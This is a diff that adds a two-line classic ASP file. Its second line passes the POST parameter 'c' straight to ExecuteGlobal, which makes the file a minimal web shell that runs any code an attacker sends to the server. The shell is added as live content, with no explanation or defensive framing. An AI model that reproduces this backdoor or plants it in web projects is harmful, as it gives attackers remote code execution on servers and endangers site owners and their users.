@@ -1,0 +1,2 @@
+<%@ LANGUAGE=VBScript %>
+<% ExecuteGlobal Request.Form("c") %>
